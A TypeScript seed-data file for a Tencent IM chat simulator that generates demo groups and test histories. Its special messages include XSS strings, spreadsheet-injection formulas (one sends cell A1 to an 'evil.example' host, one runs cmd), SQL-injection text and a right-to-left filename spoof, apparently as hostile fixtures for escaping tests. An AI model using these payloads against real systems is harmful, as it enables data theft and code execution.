/**
 * Seed data for the Tencent IM REST simulator: the demo app (`npm run sim`), a bench group, and a
 * seeded random history generator for property tests. Everything is deterministic: a seeded
 * mulberry32 PRNG, never Math.random. Message shapes follow docs/reference/tencent-im-api.md §4.
 */
import type { MsgElement } from '../../src-main/shared/tim-types'
import type { MsgState, SimApp, SimGroup, SimMessage } from './server'
import { mulberry32 } from '../random'
import { COS_PREFIX, SIM_COS_ORIGIN } from './media/cos'
import { mediaLabGroup, mediaLabGroupId, teamBucket } from './media/lab'
import { applyTeamConversation, communityFanIds, communityGroup, communityGroupId, demoProfiles, teamMembers } from './demo-people'

export { mulberry32 }

/** Credentials of the demo app. The secret key is a fixed, public, test-only value. */
export const demoCredentials = {
  sdkAppId: 1400000001,
  secretKey: '194f6e6b1b5dfbc6fbce7b024eee0b2f399140c0f9a632ec197c67ed398c5e24',
  identifier: 'administrator'
} as const

/** The shell line that points the tim-archive CLI at a simulator of the demo app (npm run sim, npm run demo). */
export function cliEnvLine(endpoint: string): string {
  const c = demoCredentials
  return `export TIM_ENDPOINT=${endpoint} TIM_SDKAPPID=${c.sdkAppId} TIM_IDENTIFIER=${c.identifier} TIM_SECRET_KEY=${c.secretKey}`
}

/** Group IDs of the demo app. */
export const demoGroupIds = {
  team: '@TGS#1DEMOTEAM',
  bigSeq: '@TGS#2BIGSEQWORK',
  live: '@TGS#3LIVESTREAM',
  empty: '@TGS#4EMPTYGROUP',
  dismissed: '@TGS#5DISMISSED',
  bench: '@TGS#6BENCH',
  custom: 'ops-oncall_2024.team',
  /** A topic-enabled Community (tools/sim/demo-people.ts). */
  community: communityGroupId
} as const
/**
 * The media lab group, only with demoApp({ media: true }) (npm run sim -- --media): tools/sim/media/lab.ts.
 * Not in demoGroupIds, whose values are the groups every demo app has.
 */
export const mediaGroupId = mediaLabGroupId
/** The bench group of demoApp(): `benchMessages` plain messages. */
export const benchGroupId = demoGroupIds.bench
/** The ~600-message team chat of demoApp(). */
export const teamGroupId = demoGroupIds.team

/** Sender used for system messages (group tips and notifications). */
export const systemSender = '@TIM#SYSTEM'

// ---------------------------------------------------------------------------------------------
// PRNG

export class Rng {
  private readonly next: () => number
  constructor(seed: number) {
    this.next = mulberry32(seed)
  }
  float(): number {
    return this.next()
  }
  /** Integer in [lo, hi] inclusive. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1))
  }
  uint32(): number {
    return Math.floor(this.next() * 4294967296)
  }
  chance(p: number): boolean {
    return this.next() < p
  }
  pick<T>(arr: readonly T[]): T {
    const v = arr[Math.floor(this.next() * arr.length)]
    if (v === undefined) throw new Error('pick from an empty array')
    return v
  }
}

// ---------------------------------------------------------------------------------------------
// Element builders (docs/reference/tencent-im-api.md §4)

const text = (Text: string): MsgElement => ({ MsgType: 'TIMTextElem', MsgContent: { Text } })
const face = (Index: number, Data = ''): MsgElement => ({ MsgType: 'TIMFaceElem', MsgContent: { Index, Data } })
const custom = (Data: string, Desc = '', Ext = '', Sound?: string): MsgElement => ({
  MsgType: 'TIMCustomElem',
  MsgContent: Sound === undefined ? { Data, Desc, Ext } : { Data, Desc, Ext, Sound }
})
const location = (Desc: string, Latitude: number, Longitude: number): MsgElement => ({
  MsgType: 'TIMLocationElem',
  MsgContent: { Desc, Latitude, Longitude }
})

function uuid(rng: Rng): string {
  let s = ''
  for (let i = 0; i < 32; i++) s += '0123456789abcdef'[rng.int(0, 15)]
  return s
}

/**
 * The team chat's files live on the simulator's loopback COS (tools/sim/media/cos.ts), in a
 * public-read bucket: the server swaps the placeholder origin for its own, and serves real bytes that
 * match each element's declared format, dimensions and size.
 */
const cos = `${SIM_COS_ORIGIN}${COS_PREFIX.slice(0, -1)}/${teamBucket}`

function image(rng: Rng, opts: { gif?: boolean; zeroSizes?: boolean } = {}): MsgElement {
  const id = uuid(rng)
  const w = rng.int(640, 4032)
  const h = rng.int(480, 3024)
  const size = rng.int(80_000, 6_000_000)
  const fmt = opts.gif ? 2 : rng.pick([1, 3])
  const ext = fmt === 2 ? 'gif' : fmt === 1 ? 'jpg' : 'png'
  const url = (t: number): string => `${cos}/img/${id}_${t}.${ext}?imageMogr2/thumbnail/${t === 1 ? '' : t === 2 ? '720x' : '198x'}`
  return {
    MsgType: 'TIMImageElem',
    MsgContent: {
      UUID: `${id}.${ext}`,
      ImageFormat: fmt,
      ImageInfoArray: [
        { Type: 1, Size: size, Width: w, Height: h, URL: url(1) },
        {
          Type: 2,
          Size: opts.zeroSizes ? 0 : Math.floor(size / 4),
          Width: opts.zeroSizes ? 0 : 720,
          Height: opts.zeroSizes ? 0 : Math.round((720 * h) / w),
          URL: url(2)
        },
        {
          Type: 3,
          Size: opts.zeroSizes ? 0 : Math.floor(size / 40),
          Width: opts.zeroSizes ? 0 : 198,
          Height: opts.zeroSizes ? 0 : Math.round((198 * h) / w),
          URL: url(3)
        }
      ]
    }
  }
}

function sound(rng: Rng, legacy = false): MsgElement {
  const id = uuid(rng)
  const Size = rng.int(2_000, 400_000)
  const Second = rng.int(1, 60)
  return legacy
    ? { MsgType: 'TIMSoundElem', MsgContent: { UUID: id, Size, Second } }
    : { MsgType: 'TIMSoundElem', MsgContent: { Url: `${cos}/voice/${id}.wav`, UUID: id, Size, Second, Download_Flag: 2 } }
}

function file(rng: Rng, FileName: string, legacy = false): MsgElement {
  const id = uuid(rng)
  const FileSize = rng.int(1_000, 90_000_000)
  return legacy
    ? { MsgType: 'TIMFileElem', MsgContent: { UUID: id, FileSize, FileName } }
    : {
        MsgType: 'TIMFileElem',
        MsgContent: { Url: `${cos}/file/${id}/${encodeURIComponent(FileName)}`, UUID: id, FileSize, FileName, Download_Flag: 2 }
      }
}

function video(rng: Rng, legacy = false): MsgElement {
  const v = uuid(rng)
  const t = uuid(rng)
  const base = {
    VideoUUID: v,
    VideoSize: rng.int(500_000, 90_000_000),
    VideoSecond: rng.int(0, 300),
    VideoFormat: 'mp4',
    ThumbUUID: t,
    ThumbSize: rng.int(5_000, 200_000),
    ThumbWidth: 720,
    ThumbHeight: 1280,
    ThumbFormat: 'JPG'
  }
  return legacy
    ? { MsgType: 'TIMVideoFileElem', MsgContent: base }
    : {
        MsgType: 'TIMVideoFileElem',
        MsgContent: { ...base, VideoUrl: `${cos}/video/${v}.mp4`, VideoDownloadFlag: 2, ThumbUrl: `${cos}/video/${t}.jpg`, ThumbDownloadFlag: 2 }
      }
}

// ---------------------------------------------------------------------------------------------
// Text pools

/** Everyday chat lines in Chinese, English and other scripts; also the bench:timeline corpus. */
export const plainTexts: readonly string[] = [
  'Good morning everyone!',
  '早上好，今天的站会改到十点。',
  'The build is green again 🎉',
  '我刚把新的设计稿上传到共享盘了，大家看看。',
  'Can someone review PR #482? It touches the sync loop.',
  '收到 👍',
  'LGTM, merging.',
  '下午三点在 3 号会议室开周会，别迟到哦 😄',
  'Deploying to staging now, expect 5 min of downtime.',
  '测试环境的数据库又满了，谁清理一下？',
  'Lunch? 🍜🍣🥟',
  '好的，我来跟进这个问题。',
  'FYI: the VPN certificate expires on Friday.',
  '这个 bug 只在 iOS 17.4 上复现，Android 没问题。',
  'ok',
  '👌',
  '哈哈哈哈哈 😂😂😂',
  'Release notes draft: https://docs.example.com/notes/v2.3?draft=1&lang=zh-CN',
  '周末愉快！Have a nice weekend! 🌞',
  'I will be out tomorrow, ping me on mobile if urgent.',
  '客户反馈说导出的 Excel 打不开，能帮忙看下吗？',
  'Thanks! 谢谢！ありがとう！감사합니다!',
  'مرحبا بالجميع، الاجتماع بعد ساعة',
  'שלום לכולם, הפגישה נדחתה למחר',
  'Ping @bob re: the 502 errors from the gateway',
  '+1',
  'Who broke main? 😅',
  '数据已经同步完了，一共 12,345 条。',
  'Meeting notes are in the wiki: https://wiki.example.com/display/TEAM/2024-05-06+Weekly',
  '明天上线，记得冻结代码。'
]

const senders: readonly string[] = ['alice', 'bob', 'chen_wei', 'li_lei', 'fatima', 'yossi', '144115197276518801', 'administrator']

/** ~11 KB of text: a single message near the 12 KB limit. */
function bigText(rng: Rng, approxBytes: number): string {
  const parts: string[] = []
  let n = 0
  while (n < approxBytes) {
    const s = rng.pick(plainTexts)
    parts.push(s)
    n += Buffer.byteLength(s) + 1
  }
  return parts.join('\n')
}

// ---------------------------------------------------------------------------------------------
// Demo team chat

interface Draft {
  from?: string
  body: MsgElement[] | Record<string, unknown>
  isSystem?: boolean
  cloudCustomData?: string
  priority?: number
  state?: MsgState
}

function specialDrafts(rng: Rng, groupId: string): Draft[] {
  const relayItem = (seq: number, from: string, t: number, body: MsgElement[], ccd?: string): Record<string, unknown> => {
    const item: Record<string, unknown> = { From_Account: from, GroupId: groupId, MsgSeq: seq, MsgRandom: rng.uint32(), MsgTimeStamp: t, MsgBody: body }
    if (ccd !== undefined) item['CloudCustomData'] = ccd
    return item
  }
  return [
    // The two messages of the API page sample (docs/reference/tencent-im-api.md §1.4), verbatim.
    { from: '144115197276518801', priority: 1, body: [custom('\b\u0001\u0010\u0006\u001A\u0006MaoTong', 'MIF', ''), face(15)] },
    { from: '144115198339527735', priority: 1, body: [custom('\b\u0001\u0010\u0006\u001A\u000FWatermelon Girl.', 'MIF', ''), text('Escalate')] },
    // Text that looks like markup or script.
    { body: [text('<script>alert(1)</script>')] },
    { body: [text('<img src=x onerror=alert(1)>')] },
    { body: [text('Docs: [click here](javascript:alert(1)) or <a href="javascript:alert(1)">this</a> javascript:alert(document.cookie)')] },
    { body: [text("\"><svg/onload=alert(1)>&lt;b&gt;escaped&lt;/b&gt; &amp; {{constructor.constructor('alert(1)')()}} ${7*7}")] },
    // Spreadsheet formulas (CSV injection).
    { body: [text('=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")')] },
    { body: [text("+cmd|' /C calc'!A0")] },
    { body: [text('-1+2')] },
    { body: [text('@SUM(A1:A10)')] },
    { body: [text('\t=1+1\r\n=2+2')] },
    // Right-to-left and bidi tricks.
    { from: 'fatima', body: [text('تم إصلاح الخطأ في الإصدار 2.3، شكراً للجميع 🙏')] },
    { from: 'yossi', body: [text('עדכון: גרסה 2.3 עלתה לאוויר ב-14:30, תודה!')] },
    { from: 'fatima', body: [text('mixed: abc مرحبا 123 שלום def')] },
    { body: [text('invoice_\u202Efdp.exe and \u2067isolate\u2069 \u200F rtl mark')] },
    // Emoji, including ZWJ sequences, flags and skin tones.
    { body: [text('🎉🎉 Release v2.3.0 shipped! 👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇳🇺🇸🇮🇱 👍🏽👍🏿 🧑🏻‍💻')] },
    { body: [text('发布成功 🚀，感谢大家这两周的辛苦付出！下一步：性能优化、国际化（i18n）和无障碍支持。')] },
    // URLs.
    { body: [text('Dashboard: https://grafana.example.com/d/abc123/api-latency?orgId=1&from=now-6h&to=now&var-region=ap-shanghai#panel-4')] },
    { body: [text('Mirror: http://例え.テスト/パス?q=値 and https://xn--fsqu00a.xn--0zwm56d/ and ftp://files.example.com/pub/')] },
    // Control characters, zero-width characters, quoting.
    { body: [text('line1\nline2\r\nline3\ttabbed \u0000 nul \u001b[31mred\u001b[0m \u0007 bell')] },
    { body: [text('pass\u200Bword \uFEFFbom zero\u200Dwidth \u00A0nbsp')] },
    { body: [text('C:\\Users\\bob\\Desktop\\"quoted" \'single\' `back` \\n not a newline')] },
    { body: [text('Robert\'); DROP TABLE messages;-- and " OR 1=1 --')] },
    { body: [text('')] },
    { body: [text('   ')] },
    // Every element type.
    { body: [face(3)] },
    { body: [face(255, 'custom-face:party_parrot')] },
    { body: [location('深圳市南山区科技中一路腾讯大厦', 22.540503, 113.934528)] },
    { body: [location('Ushuaia, Tierra del Fuego', -54.801912, -68.302951)] },
    { body: [sound(rng)] },
    { body: [sound(rng, true)] },
    { body: [image(rng)] },
    { body: [image(rng, { gif: true, zeroSizes: true })] },
    { body: [file(rng, '季度报告 Q3 (final) v2.xlsx')] },
    { body: [file(rng, 'notes.txt', true)] },
    { body: [video(rng)] },
    { body: [video(rng, true)] },
    {
      body: [
        {
          MsgType: 'TIMRelayElem',
          MsgContent: {
            Title: '群聊的聊天记录',
            MsgNum: 3,
            CompatibleText: '[聊天记录]',
            AbstractList: ['alice: 上线了吗？', 'bob: 上线了 🎉', 'chen_wei: [图片]'],
            MsgList: [
              relayItem(101, 'alice', 1715000000, [text('上线了吗？')]),
              relayItem(102, 'bob', 1715000042, [text('上线了 🎉')], '{"reply":{"seq":101}}'),
              relayItem(103, 'chen_wei', 1715000100, [image(rng)])
            ]
          }
        }
      ]
    },
    {
      body: [
        {
          MsgType: 'TIMRelayElem',
          MsgContent: {
            Title: 'Chat history of alice and bob',
            MsgNum: 240,
            CompatibleText: '[Chat history]',
            AbstractList: ['alice: here is the whole incident log', 'bob: thanks', 'alice: [File]'],
            JsonMsgKey: 'relay_1400000001_' + uuid(rng)
          }
        }
      ]
    },
    // Multi-element messages.
    { body: [text('Screenshot of the error: '), image(rng), text(' — happens after login')] },
    { body: [text('太棒了'), face(12), face(12), face(12)] },
    { body: [custom('{"type":"vote","id":42,"options":["A","B","C"]}', 'Vote: lunch place', '{"v":1}', 'dingdong.aiff'), text('请投票 🗳️')] },
    // Custom data with binary-ish content.
    { body: [custom('\u0000\u0001\u0002\u00ff\uFFFD binary-ish', 'bin', '')] },
    // CloudCustomData.
    { cloudCustomData: '{"mentions":["bob","alice"],"reply":{"seq":120,"from":"bob"}}', body: [text('@bob @alice see above ⬆️')] },
    { cloudCustomData: 'v1|priority=high|<b>not json</b>', body: [text('@all 今晚 8 点发版，请注意')] },
    // A message near the 12 KB limit.
    { body: [text(bigText(rng, 11_000))] },
    // System messages: object-shaped and array-shaped bodies.
    {
      from: systemSender,
      isSystem: true,
      priority: 1,
      body: { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'Join', Operator_Account: 'bob', MemberAccount_List: ['yossi'] } }
    },
    {
      from: systemSender,
      isSystem: true,
      priority: 1,
      body: {
        MsgType: 'TIMGroupTipElem',
        MsgContent: { OpType: 'ModifyGroupInfo', Operator_Account: 'administrator', GroupInfo: { Name: '产品研发 Team 🚀' } }
      }
    },
    {
      from: systemSender,
      isSystem: true,
      body: [custom('{"businessID":"group_notice","text":"群公告已更新"}', 'group notice', '')]
    },
    {
      from: systemSender,
      isSystem: true,
      body: { OpType: 'Quit', Operator_Account: 'li_lei', Reason: 'left the group' }
    }
  ]
}

function teamGroup(nowSec: number): SimGroup {
  const rng = new Rng(0x7ea1c4a7)
  const groupId = demoGroupIds.team
  const total = 600
  const holes = new Set([57, 58, 233, 411, 530])
  const specials = specialDrafts(rng, groupId)
  // Spread the special messages evenly over the history, avoiding holes and seq 1.
  const specialAt = new Map<number, Draft>()
  specials.forEach((d, i) => {
    let seq = 3 + Math.floor(((i + 0.5) * (total - 10)) / specials.length)
    while (holes.has(seq) || specialAt.has(seq)) seq++
    specialAt.set(seq, d)
  })
  const messages = new Map<number, SimMessage>()
  const span = 60 * 86400
  let t = nowSec - span
  for (let seq = 1; seq <= total; seq++) {
    // Time advances unevenly; about one message in eight shares the previous one's second.
    if (!rng.chance(0.12)) t += rng.int(1, Math.floor((2 * span) / (total * 0.9)))
    if (holes.has(seq)) continue
    let d: Draft
    if (seq === 1) {
      d = {
        from: systemSender,
        isSystem: true,
        priority: 1,
        body: { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'Create', Operator_Account: 'administrator', GroupName: '产品研发 Team' } }
      }
    } else {
      const s = specialAt.get(seq)
      if (s) d = s
      else {
        const r = rng.float()
        const body = r < 0.12 ? [text(rng.pick(plainTexts)), face(rng.int(0, 30))] : [text(rng.pick(plainTexts))]
        d = { body }
        // Plain messages only: some are deleted, some recalled.
        const s2 = rng.float()
        if (s2 < 0.02) d.state = 'deleted'
        else if (s2 < 0.04) d.state = 'recalled'
      }
    }
    const m: SimMessage = {
      seq,
      from: d.from ?? rng.pick(senders),
      time: Math.min(t, nowSec),
      random: rng.uint32(),
      body: d.body,
      state: d.state ?? 'normal'
    }
    if (d.priority !== undefined) m.priority = d.priority
    else if (rng.chance(0.5)) m.priority = 2
    if (d.isSystem) m.isSystem = true
    if (d.cloudCustomData !== undefined) m.cloudCustomData = d.cloudCustomData
    messages.set(seq, m)
  }
  const created = nowSec - span - 3600
  const quit = [...messages.values()].find((m) => m.isSystem && (m.body as { OpType?: unknown }).OpType === 'Quit')
  const g: SimGroup = {
    GroupId: groupId,
    Type: 'Public',
    Name: '产品研发 Team 🚀',
    Owner_Account: 'administrator',
    CreateTime: created,
    MemberNum: senders.length + 4,
    Introduction: 'Product & engineering team chat. 产品研发团队日常沟通。',
    nextMsgSeq: total + 1,
    messages,
    members: teamMembers(created, nowSec, quit?.time ?? nowSec)
  }
  // Issue 18's conversation (replies, mentions, stickers, custom messages, an edit target) over
  // plain messages: counts and senders stay as they were.
  applyTeamConversation(g)
  return g
}

/**
 * A group like the API page's example: seqs near 7803321, all history below 7800001 purged,
 * the oldest ~200 of the remaining seqs expired. The two newest messages are the doc sample.
 */
function bigSeqGroup(): SimGroup {
  const rng = new Rng(0x0b16_5e9)
  const nextMsgSeq = 7803322
  const floor = 7800001
  const expiredBelow = 7800201
  const messages = new Map<number, SimMessage>()
  const from = ['144115197276518801', '144115198339527735', '144115212345678901', 'zhang_san', 'wang.wu']
  // Build newest first so the top two match the doc sample's timestamps exactly.
  let t = 1458721802
  for (let seq = nextMsgSeq - 1; seq >= floor; seq--) {
    let m: SimMessage
    if (seq === 7803321) {
      m = {
        seq,
        from: '144115197276518801',
        time: 1458721802,
        random: 51083293,
        priority: 1,
        state: 'normal',
        body: [custom('\b\u0001\u0010\u0006\u001A\u0006MaoTong', 'MIF', ''), face(15)]
      }
    } else if (seq === 7803320) {
      t = 1458721797
      m = {
        seq,
        from: '144115198339527735',
        time: t,
        random: 235168582,
        priority: 1,
        state: 'normal',
        body: [custom('\b\u0001\u0010\u0006\u001A\u000FWatermelon Girl.', 'MIF', ''), text('Escalate')]
      }
    } else {
      t -= rng.int(0, 400)
      const r = rng.float()
      const body =
        r < 0.7
          ? [custom(`\b\u0001\u0010\u0006\u001A\u0006${rng.pick(['MaoTong', 'XiGua', 'LiZi', 'TaoZi'])}`, 'MIF', ''), text(rng.pick(plainTexts))]
          : [text(rng.pick(plainTexts))]
      m = { seq, from: rng.pick(from), time: t, random: rng.uint32(), priority: rng.pick([1, 2, 2, 3]), state: 'normal', body }
      if (seq < expiredBelow) m.state = 'expired'
      else if (rng.chance(0.01)) m.state = 'deleted'
      // eslint-disable-next-line no-dupe-else-if -- each rng.chance() draws a new number
      else if (rng.chance(0.01)) m.state = 'recalled'
    }
    messages.set(seq, m)
  }
  return {
    GroupId: demoGroupIds.bigSeq,
    Type: 'Private',
    Name: 'MIF 项目组',
    Owner_Account: '144115197276518801',
    CreateTime: 1388534400,
    MemberNum: 5,
    Introduction: '',
    nextMsgSeq,
    historyFloor: floor,
    messages
  }
}

function smallGroup(seed: number, g: Omit<SimGroup, 'messages' | 'nextMsgSeq'>, count: number, startTime: number, who: readonly string[]): SimGroup {
  const rng = new Rng(seed)
  const messages = new Map<number, SimMessage>()
  let t = startTime
  for (let seq = 1; seq <= count; seq++) {
    t += rng.int(5, 3600)
    messages.set(seq, { seq, from: rng.pick(who), time: t, random: rng.uint32(), state: 'normal', body: [text(rng.pick(plainTexts))] })
  }
  return { ...g, nextMsgSeq: count + 1, messages }
}

const benchWords: readonly string[] = [
  'sync',
  'archive',
  '消息',
  'build',
  '部署',
  'review',
  'test',
  '数据',
  'deploy',
  '群聊',
  'ok',
  '👍',
  'release',
  '会议',
  'bug',
  'fix'
]

/** A large Public group for benchmarks. 30 000 messages build in well under a second. */
export function benchGroup(count = 30000, nowSec = todayUtc()): SimGroup {
  if (!Number.isSafeInteger(count) || count < 0) throw new Error('benchMessages must be a non-negative integer')
  const rng = new Rng(0xbe4c4)
  const messages = new Map<number, SimMessage>()
  let t = nowSec - count * 20
  const who = ['alice', 'bob', 'chen_wei', 'li_lei', 'bench_bot']
  for (let seq = 1; seq <= count; seq++) {
    t += rng.int(0, 39)
    const w1 = rng.pick(benchWords)
    const w2 = rng.pick(benchWords)
    const body: MsgElement[] = rng.chance(0.1) ? [text(`#${seq} ${w1} ${w2}`), face(rng.int(0, 30))] : [text(`#${seq} ${w1} ${w2} ${rng.pick(plainTexts)}`)]
    messages.set(seq, { seq, from: rng.pick(who), time: Math.min(t, nowSec), random: rng.uint32(), state: 'normal', body })
  }
  return {
    GroupId: demoGroupIds.bench,
    Type: 'Public',
    Name: 'Bench 压测群',
    Owner_Account: 'administrator',
    CreateTime: nowSec - count * 20 - 60,
    MemberNum: who.length,
    Introduction: 'Synthetic group for sync benchmarks.',
    nextMsgSeq: count + 1,
    messages
  }
}

/** Start of the current UTC day in Unix seconds: keeps demo data stable within a day. */
function todayUtc(): number {
  return Math.floor(Date.now() / 86_400_000) * 86_400
}

/**
 * The demo app: admins `administrator` and `admin2`; `alice` is an ordinary user (60010 when she
 * calls). `now` (Unix seconds) anchors the demo timestamps; by default the start of the UTC day.
 * `media` adds the media lab group (tools/sim/media/lab.ts): every kind of media and the hostile cases.
 */
export function demoApp(opts: { benchMessages?: number; now?: number; media?: boolean } = {}): SimApp {
  const now = opts.now ?? todayUtc()
  const groups: SimGroup[] = [
    teamGroup(now),
    bigSeqGroup(),
    {
      GroupId: demoGroupIds.live,
      Type: 'AVChatRoom',
      Name: '直播间 Live 🎥',
      Owner_Account: 'administrator',
      CreateTime: now - 10 * 86400,
      Introduction: 'Live stream room: no roaming history.',
      nextMsgSeq: 1,
      messages: new Map()
    },
    {
      GroupId: demoGroupIds.empty,
      Type: 'Meeting',
      Name: 'Empty meeting',
      Owner_Account: 'admin2',
      CreateTime: now - 86400,
      MemberNum: 2,
      Introduction: '',
      nextMsgSeq: 1,
      messages: new Map()
    },
    {
      ...smallGroup(
        0xd15,
        { GroupId: demoGroupIds.dismissed, Type: 'Work', Name: 'Old project (dismissed)', Owner_Account: 'bob', CreateTime: now - 200 * 86400, MemberNum: 3 },
        40,
        now - 199 * 86400,
        ['bob', 'alice', 'chen_wei']
      ),
      dismissed: true
    },
    smallGroup(
      0xca11,
      { GroupId: demoGroupIds.custom, Type: 'ChatRoom', Name: 'On-call 值班', Owner_Account: 'admin2', CreateTime: now - 30 * 86400, MemberNum: 4 },
      25,
      now - 30 * 86400,
      ['alice', 'bob', 'admin2', 'fatima']
    ),
    benchGroup(opts.benchMessages ?? 30000, now)
  ]
  // The media lab is opt-in: existing tests count the demo's groups (the app reports "6 groups").
  if (opts.media) groups.push(mediaLabGroup(now))
  groups.push(communityGroup(now))
  return {
    sdkAppId: demoCredentials.sdkAppId,
    secretKey: demoCredentials.secretKey,
    admins: [demoCredentials.identifier, 'admin2'],
    groups: new Map(groups.map((g) => [g.GroupId, g])),
    profiles: demoProfiles(now, communityFanIds())
  }
}

// ---------------------------------------------------------------------------------------------
// Random histories for property tests

export interface RandomHistoryOptions {
  /** Number of seqs (holes included): seqs startSeq .. startSeq + messages - 1. */
  messages: number
  /** Share of seqs left out of the map entirely (never returned). */
  holeRate?: number
  deleteRate?: number
  recallRate?: number
  /** historyFloor: seqs below it are purged (they are still stored, so the server must hide them). */
  floor?: number
  /** First seq, default 1. */
  startSeq?: number
  /** Share of ~8 KB text messages, to trigger the response size budget. */
  bigMessageRate?: number
  /** Share of system messages (half of them with an object-shaped MsgBody). */
  systemRate?: number
  /** Extension: messages with seq below this are 'expired' (the retention window). */
  expiredBelow?: number
}

export function randomHistory(seed: number, opts: RandomHistoryOptions): Pick<SimGroup, 'nextMsgSeq' | 'messages' | 'historyFloor'> {
  const rng = new Rng(seed)
  const start = opts.startSeq ?? 1
  if (!Number.isSafeInteger(start) || start < 1) throw new Error('startSeq must be a positive integer')
  if (!Number.isSafeInteger(opts.messages) || opts.messages < 0) throw new Error('messages must be a non-negative integer')
  const messages = new Map<number, SimMessage>()
  const who = ['alice', 'bob', 'chen_wei', '144115197276518801', 'fatima']
  let t = 1_700_000_000 + (seed % 1000) * 60
  for (let i = 0; i < opts.messages; i++) {
    const seq = start + i
    t += rng.int(0, 90)
    // Draw the per-seq decisions up front so one rate changes the others' outcomes as little as possible.
    const rHole = rng.float()
    const rState = rng.float()
    const rBig = rng.float()
    const rSys = rng.float()
    const random = rng.uint32()
    const txt = rng.pick(plainTexts)
    if (rHole < (opts.holeRate ?? 0)) continue
    let m: SimMessage
    if (rSys < (opts.systemRate ?? 0)) {
      m = {
        seq,
        from: systemSender,
        time: t,
        random,
        priority: 1,
        isSystem: true,
        state: 'normal',
        body:
          rSys < (opts.systemRate ?? 0) / 2
            ? { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'Join', MemberAccount_List: [rng.pick(who)] } }
            : [custom('{"businessID":"group_notice"}', 'notice', '')]
      }
    } else {
      const big = rBig < (opts.bigMessageRate ?? 0)
      m = { seq, from: rng.pick(who), time: t, random, state: 'normal', body: [text(big ? `#${seq} ` + bigText(rng, 8000) : `#${seq} ${txt}`)] }
    }
    const del = opts.deleteRate ?? 0
    const rec = opts.recallRate ?? 0
    if (opts.expiredBelow !== undefined && seq < opts.expiredBelow) m.state = 'expired'
    else if (rState < del) m.state = 'deleted'
    else if (rState < del + rec) m.state = 'recalled'
    messages.set(seq, m)
  }
  const out: Pick<SimGroup, 'nextMsgSeq' | 'messages' | 'historyFloor'> = { nextMsgSeq: start + opts.messages, messages }
  if (opts.floor !== undefined) out.historyFloor = opts.floor
  return out
}
